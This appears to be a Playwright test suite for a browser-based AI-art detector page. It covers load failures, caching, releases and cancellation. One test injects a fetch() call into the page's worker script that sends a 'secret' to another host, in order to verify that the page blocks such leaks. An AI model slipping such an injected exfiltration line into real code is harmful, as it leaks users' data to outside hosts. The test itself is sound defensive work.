"""The page that answers in the browser itself, where its host or the network does what it should not."""

import http.server
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser_pictures import WIDE, saved
from tests.browsing import Host, answer, payload, wait_until
from tests.conftest import ROOT

pytestmark = pytest.mark.long
CAT = ROOT / "app/static/examples/cat.jpg"
WIDE_JPEG = saved(Image.new("RGB", (40, 40), "orange"), "JPEG", icc_profile=WIDE)  # which takes LittleCMS


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(service_workers="block")  # which would answer before a test can
    yield context.new_page()
    context.close()


class Varying(http.server.SimpleHTTPRequestHandler):
    """As hosts do that answer one address in several ways, or say so of every address."""

    by = ""

    def end_headers(self) -> None:
        self.send_header("Vary", self.by)
        super().end_headers()


def varying(by: str) -> type:
    return type("Varying", (Varying,), {"by": by})


class Redirecting(http.server.SimpleHTTPRequestHandler):
    """As hosts do that show no index.html in an address."""

    def do_GET(self) -> None:
        if self.path == "/index.html":
            self.send_response(301)
            self.send_header("Location", "/")
            self.end_headers()
        else:
            super().do_GET()


def test_the_worker_reaches_no_other_host_either(page: Page, place: Path, tmp_path: Path) -> None:
    copy = shutil.copytree(place / "page", tmp_path / "page")
    worker = copy / "engine/worker.js"
    with Host(copy) as host, Host(copy) as elsewhere:
        leak = f'await fetch("{elsewhere.url}?secret", {{ mode: "no-cors" }}).catch(() => {{}});\n'
        worker.write_text(worker.read_text() + leak)
        page.goto(host.url)
        page.get_by_label("Choose pictures").set_input_files(CAT)
        expect(answer(page, "cat.jpg").locator(".verdict strong")).to_have_text("REAL", timeout=20_000)
        host.shutdown()
        elsewhere.shutdown()
    assert "/engine/worker.js" in host.asked
    assert elsewhere.asked == []


@pytest.mark.parametrize(
    "part",
    [
        "model.safetensors",
        "worker.js",
        "resize.js",
        "ort-wasm-simd-threaded.wasm",
        "mozjpeg_dec.wasm",
        "lcms.js",
        "lcms.wasm",
    ],
)
def test_what_could_not_be_fetched_is_told_and_fetched_again(page: Page, host: Host, part: str) -> None:
    page.route(f"**/{part}", lambda route: route.abort())
    page.goto(host.url)
    page.get_by_label("Choose pictures").set_input_files([payload("wide.jpg", WIDE_JPEG)])
    card = answer(page, "wide.jpg")
    expect(card).to_contain_text(
        "No answer: a part of the page could not be loaded: try again, or reload it", timeout=20_000
    )
    page.unroute(f"**/{part}")
    card.get_by_role("button", name="Try again").click()
    expect(card.locator(".score")).to_contain_text("Score", timeout=20_000)


def test_a_model_that_could_not_be_fetched_at_first_is_there_when_it_is_asked(page: Page, host: Host) -> None:
    page.route("**/model.safetensors", lambda route: route.abort())
    with page.expect_event("requestfailed", lambda request: request.url.endswith("model.safetensors")):
        page.goto(host.url)
    page.unroute("**/model.safetensors")
    page.get_by_label("Choose pictures").set_input_files(CAT)
    expect(answer(page, "cat.jpg").locator(".verdict strong")).to_have_text("REAL", timeout=20_000)


@pytest.mark.parametrize(
    "files",
    [
        http.server.SimpleHTTPRequestHandler,
        Redirecting,
        pytest.param(varying("Origin, Accept, User-Agent"), id="Vary"),
        pytest.param(varying("*"), id="Vary: *"),
    ],
)
def test_the_page_opens_and_answers_a_second_time_by_either_address(browser: Browser, place: Path, files: type) -> None:
    page = browser.new_page()
    with Host(place / "page", files) as host:
        page.goto(f"{host.url}index.html")
        wait_for_service_worker(page)
        page.goto("about:blank")
        host.shutdown()
    for address in (f"{host.url}index.html", host.url):
        page.goto(address)
        page.get_by_label("Choose pictures").set_input_files(CAT)
        expect(answer(page, "cat.jpg").locator(".verdict strong")).to_have_text("REAL", timeout=20_000)
    page.close()


def wait_for_service_worker(page: Page) -> None:
    """Until that of this very address keeps the page."""
    is_there = """async () => {
        const found = await navigator.serviceWorker.getRegistration();
        return found?.active?.state === "activated" && found.scope === new URL(".", location).href;
    }"""
    wait_until(page, lambda: bool(page.evaluate(is_there)))


def deploy(page: Path, version: str) -> None:
    """Another release of the page, of the same model."""
    worker = page / "service-worker.js"
    worker.write_text(re.sub(r'(?<=const VERSION = "ai-art-detector:)\w+', version, worker.read_text()))


def kept(page: Page) -> list[str]:
    """The versions that this browser keeps."""
    return sorted(name.rpartition(":")[2] for name in page.evaluate("caches.keys()"))


def test_two_pages_of_one_host_keep_what_they_need_without_a_network(
    browser: Browser, place: Path, tmp_path: Path
) -> None:
    stable = shutil.copytree(place / "page", tmp_path / "page")
    shutil.copytree(stable, stable / "beta")
    deploy(stable / "beta", "beta")
    page = browser.new_page()
    with Host(stable) as host:
        for address in (host.url, f"{host.url}beta/"):
            page.goto(address)
            wait_for_service_worker(page)
        assert len(kept(page)) == 2
        deploy(stable, "newer")
        page.goto(host.url)
        wait_until(page, lambda: kept(page) == ["beta", "newer"])
        page.goto("about:blank")
        host.shutdown()
    for address in (host.url, f"{host.url}beta/"):
        page.goto(address)
        expect(page.get_by_role("table")).to_be_visible()
    page.close()


# Made up: something in the page's worker fails, so that the next question starts another.
FAIL = """() => {
    const Real = Worker;
    window.Worker = class extends Real {
        constructor(...given) {
            super(...given);
            window.failNow = () => this.dispatchEvent(new ErrorEvent("error"));
        }
    };
}"""


def test_no_answer_of_a_new_release_is_given_as_one_of_the_model_that_the_page_names(
    browser: Browser, place: Path, tmp_path: Path
) -> None:
    copy = shutil.copytree(place / "page", tmp_path / "page")
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(f"({FAIL})()")
    with Host(copy) as host:
        page.goto(host.url)
        wait_for_service_worker(page)
        page.get_by_label("Choose pictures").set_input_files(CAT)
        expect(answer(page, "cat.jpg").locator(".verdict strong")).to_have_text("REAL", timeout=60_000)

        model = json.loads((copy / "model.json").read_text())
        model["record"]["temperature"] *= 9
        model["summary"]["model_sha256"] = "9" * 64
        model["limit"] = "It is new."
        (copy / "model.json").write_text(json.dumps(model))
        deploy(copy, "newer")
        other = context.new_page()
        other.goto(host.url)
        wait_until(other, lambda: kept(other) == ["newer"])
        page.evaluate("failNow()")
        page.get_by_role("button", name="Ship").click()
        expect(answer(page, "ship.png")).to_contain_text(
            "No answer: the model was replaced meanwhile: save the answers, then reload the page",
            timeout=60_000,
        )
        page.get_by_role("button", name="Show the evidence in cat.jpg").click()
        said = page.locator("figcaption:visible")
        expect(said).to_contain_text("No evidence: the model was replaced meanwhile", timeout=60_000)

        page.reload()
        page.get_by_role("button", name="Ship").click()
        expect(answer(page, "ship.png").locator(".score")).to_be_visible(timeout=60_000)
        expect(answer(page, "ship.png")).to_contain_text("It is new.")
        with page.expect_download() as download:
            page.get_by_role("button", name="Save as CSV").click()
        assert "9" * 64 in Path(download.value.path()).read_text()
        host.shutdown()
    context.close()


# What the worker says, by the number of its question
LISTEN = """() => {
    window.heard = [];
    const Real = Worker;
    window.Worker = class extends Real {
        constructor(...given) {
            super(...given);
            this.addEventListener("message", ({ data: { id } }) => heard.push(id));
        }
    };
}"""


def test_cancel_ends_what_is_being_answered_and_what_waits_behind_it(page: Page, host: Host) -> None:
    held: list[Route] = []
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.add_init_script(f"({LISTEN})()")
    page.route("**/model.safetensors", lambda route: held.append(route))
    page.goto(host.url)
    page.get_by_label("Choose pictures").set_input_files([payload(f"{n}.jpg", WIDE_JPEG) for n in range(6)])
    expect(page.get_by_text("0 of 6 answers")).to_be_visible()
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_text("No answer: cancelled")).to_have_count(6)
    expect(page.get_by_role("status")).to_contain_text("6 pictures: 6 without an answer")

    wait_until(page, lambda: bool(held))
    held[0].continue_()
    card = answer(page, "5.jpg")
    card.get_by_role("button", name="Try again").click()
    expect(card.locator(".score")).to_contain_text("Score", timeout=60_000)
    expect(page.get_by_text("No answer: cancelled")).to_have_count(5)
    assert set(page.evaluate("heard")) <= {1, 5}, "2 to 4 had not begun, and would have taken the time of the fifth"
    assert errors == []


def test_what_is_cancelled_before_it_is_asked_is_not_asked(page: Page, host: Host) -> None:
    page.goto(host.url)
    said = page.evaluate(
        """async () => {
            const { engine } = await import("./static/engine.js");
            return engine.predict(new File([""], "a.jpg"), "", AbortSignal.abort()).catch(({ message }) => message);
        }"""
    )
    assert said == "cancelled"
